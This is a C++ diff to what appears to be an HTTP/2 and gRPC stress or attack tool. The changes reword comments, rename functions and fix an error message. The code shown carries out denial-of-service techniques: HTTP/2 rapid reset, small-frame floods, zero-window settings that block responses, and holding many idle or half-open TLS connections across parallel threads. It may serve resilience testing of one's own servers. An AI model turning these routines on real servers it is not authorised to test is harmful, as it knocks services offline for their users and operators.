@@ -23,19 +23,19 @@ namespace ballast {
 namespace {
 
 constexpr size_t kFrameBytes = 16384;
-// Between two attempts of a connection that the server ended.
+// Pause between two attempts of a connection that the server ended.
 constexpr absl::Duration kPause = absl::Milliseconds(20);
 
-// Bytes that are sent once a connection, and those that are sent again and again.
+// Bytes sent once per connection, and bytes sent repeatedly.
 struct Script {
-  // The client's settings, and whether it acknowledges the server's before it goes on.
+  // The client's settings, and whether it acknowledges the server's before it continues.
   absl::string_view settings;
   bool acknowledges = true;
   std::string opening;
-  // The next `frames` frames. Streams have odd numbers that rise.
+  // Returns the next `frames_in_next` frames. Streams have odd numbers that rise.
   virtual std::string Next() = 0;
   uint64_t frames_in_next = 1;
-  // Then it stays and sends nothing more.
+  // After this many the connection stays open and sends nothing more.
   uint64_t most_frames = std::numeric_limits<uint64_t>::max();
   bool hears = true;
   virtual ~Script() = default;
@@ -47,10 +47,10 @@ struct Script {
   uint32_t stream_ = uint32_t(-1);
 };
 
-// Settings that leave an answer no room: SETTINGS_INITIAL_WINDOW_SIZE of 0.
+// Settings that leave no room for a response: SETTINGS_INITIAL_WINDOW_SIZE of 0.
 constexpr absl::string_view kNoWindow("\0\4\0\0\0\0", 6);
 
-// A whole call.
+// One complete call.
 std::string EncodeCall(const Http2AttackOptions& options, uint32_t stream) {
   return absl::StrCat(
       EncodeHttp2Frame(Http2Frame::kHeaders, kHttp2EndHeaders, stream, EncodeGrpcHeaders(options.path, options.token)),
@@ -104,7 +104,7 @@ class RapidReset : public Script {
   const std::string headers_;
 };
 
-// The same small frame again and again.
+// Repeats the same small frame.
 class Flood : public Script {
  public:
   Flood(Http2Frame type, absl::string_view payload, bool hears_answers) {
@@ -170,7 +170,7 @@ std::unique_ptr<Script> MakeScript(const Http2AttackOptions& options) {
   return nullptr;
 }
 
-// Says what comes before the attack.
+// Sends what precedes the attack.
 absl::Status Open(Http2Peer& peer, const Script& script) {
   absl::Status status =
       peer.Send(absl::StrCat(kHttp2Preface, EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, script.settings)));
@@ -182,8 +182,8 @@ absl::Status Open(Http2Peer& peer, const Script& script) {
   return status;
 }
 
-// Attacks over one connection at a time; counts what happened. The first error that says that no attack is possible.
-absl::Status Talk(const Http2AttackOptions& options, absl::Time end, Http2AttackCounts& counts) {
+// Attacks over one connection at a time and counts the results. Returns the first error that prevents attacks.
+absl::Status AttackConnection(const Http2AttackOptions& options, absl::Time end, Http2AttackCounts& counts) {
   YieldThreadToOthers();
   // OpenSSL writes to sockets that the server has closed.
   sigset_t broken_pipe;
@@ -222,12 +222,12 @@ absl::Status Talk(const Http2AttackOptions& options, absl::Time end, Http2Attack
   return absl::OkStatus();
 }
 
-// Opens connections that say `greeting` and then nothing, again and again if the server ends them.
-absl::Status Stand(const Http2AttackOptions& options, absl::string_view greeting, absl::Time end,
-                   Http2AttackCounts& counts) {
+// Opens connections that send `greeting` and then nothing; reopens those that the server ends.
+absl::Status HoldConnections(const Http2AttackOptions& options, absl::string_view greeting, absl::Time end,
+                             Http2AttackCounts& counts) {
   std::vector<std::unique_ptr<Http2Peer>> peers;
   while (absl::Now() < end && counts.connections < options.connections) {
-    // A listener whose queue is full answers nothing; the next one must not wait for that until the end.
+    // A listener with a full queue does not respond; the next connection must not wait for it until the end.
     auto peer = Http2Peer::Connect(options.address, nullptr, std::min(end, absl::Now() + absl::Milliseconds(200)));
     if (absl::IsInvalidArgument(peer.status())) return peer.status();
     ++counts.connections;
@@ -261,24 +261,25 @@ absl::StatusOr<Http2Attack> ParseHttp2Attack(absl::string_view name) {
   const std::vector<std::string>& names = Http2AttackNames();
   const auto found = std::find(names.begin(), names.end(), name);
   if (found != names.end()) return static_cast<Http2Attack>(std::distance(names.begin(), found));
-  return absl::InvalidArgumentError(absl::StrCat("attack: got \"", name, "\", want of ", absl::StrJoin(names, ", ")));
+  return absl::InvalidArgumentError(
+      absl::StrCat("attack: got \"", name, "\", want one of ", absl::StrJoin(names, ", ")));
 }
 
 absl::StatusOr<Http2AttackCounts> RunHttp2Attack(const Http2AttackOptions& options) {
   const absl::Time end = absl::Now() + options.time;
   Http2AttackCounts all;
-  // The head of a TLS record of 512 bytes and the first of a ClientHello.
+  // The header of a TLS record of 512 bytes, and the start of a ClientHello.
   constexpr absl::string_view kHalfHello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
   if (options.attack == Http2Attack::kHalfOpenTls || options.attack == Http2Attack::kManyConnections) {
     const bool half = options.attack == Http2Attack::kHalfOpenTls;
-    if (absl::Status status = Stand(options, half ? kHalfHello : "", end, all); !status.ok()) return status;
+    if (absl::Status status = HoldConnections(options, half ? kHalfHello : "", end, all); !status.ok()) return status;
     return all;
   }
   std::vector<Http2AttackCounts> counts(options.connections);
   std::vector<absl::Status> ends(options.connections);
   std::vector<std::thread> threads;
   for (uint32_t i = 0; i < options.connections; ++i) {
-    threads.emplace_back([&, i] { ends[i] = Talk(options, end, counts[i]); });
+    threads.emplace_back([&, i] { ends[i] = AttackConnection(options, end, counts[i]); });
   }
   for (std::thread& thread : threads) thread.join();
   for (uint32_t i = 0; i < options.connections; ++i) {
